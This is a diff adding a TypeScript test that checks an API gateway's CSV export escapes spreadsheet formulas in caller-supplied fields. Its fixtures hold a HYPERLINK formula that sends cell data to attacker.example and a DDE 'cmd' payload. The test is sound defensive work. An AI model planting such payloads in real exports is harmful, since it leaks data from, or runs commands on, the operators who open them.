@@ -188,3 +188,79 @@ test('pages are stable under concurrent inserts and exports stream every row onc
     expected,
   );
 });
+
+// CSV injection: `user`, `session_id` and the referer are whatever a caller sent, and an operator
+// opens the export in a spreadsheet, which would run a cell starting with `=` as a formula.
+test('the CSV export never hands a spreadsheet a formula; NDJSON keeps the exact values', async (t) => {
+  const harness = await startTestGateway();
+  t.after(() => harness.close());
+  harness.upstream.route('/v1/chat/completions', {
+    kind: 'json',
+    body: openAIChatCompletion({ usage: { prompt_tokens: 4, completion_tokens: 2 } }),
+  });
+  const user = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
+  const session = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const referer = 'https://app.example/-not-a-formula';
+  const response = await postJson(
+    harness.apiUrl,
+    '/chat/completions',
+    harness.key,
+    {
+      model: 'test/model',
+      messages: [{ role: 'user', content: 'Hi' }],
+      user,
+      session_id: session,
+    },
+    { 'http-referer': referer },
+  );
+  assert.equal(response.status, 200);
+  await response.text();
+
+  const ndjson = await fetch(`${harness.apiUrl}/generations?format=ndjson`, {
+    headers: { authorization: `Bearer ${harness.key}` },
+  });
+  const record = JSON.parse((await ndjson.text()).trim()) as Record<string, unknown>;
+  assert.equal(record['external_user'], user);
+  assert.equal(record['session_id'], session);
+
+  const csv = await fetch(`${harness.apiUrl}/generations?format=csv`, {
+    headers: { authorization: `Bearer ${harness.key}` },
+  });
+  const [header = '', line = ''] = (await csv.text()).split('\r\n');
+  const cells = parseCsvLine(line);
+  const cell = (name: string) => cells[header.split(',').indexOf(name)];
+  assert.equal(cell('external_user'), `'${user}`);
+  assert.equal(cell('session_id'), `'${session}`);
+  // Text that does not start like a formula, and numbers, are as they are.
+  assert.equal(cell('model'), 'test/model');
+  assert.equal(cell('tokens_prompt'), String(record['tokens_prompt']));
+  for (const value of cells) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
+});
+
+/** The cells of one CSV line (RFC 4180 quoting). */
+function parseCsvLine(line: string): string[] {
+  const cells: string[] = [];
+  let index = 0;
+  while (index <= line.length) {
+    if (line[index] === '"') {
+      let value = '';
+      index += 1;
+      for (;;) {
+        const quote = line.indexOf('"', index);
+        value += line.slice(index, quote);
+        index = quote + 1;
+        if (line[index] !== '"') break;
+        value += '"';
+        index += 1;
+      }
+      cells.push(value);
+      index += 1;
+    } else {
+      const comma = line.indexOf(',', index);
+      const end = comma < 0 ? line.length : comma;
+      cells.push(line.slice(index, end));
+      index = end + 1;
+    }
+  }
+  return cells;
+}
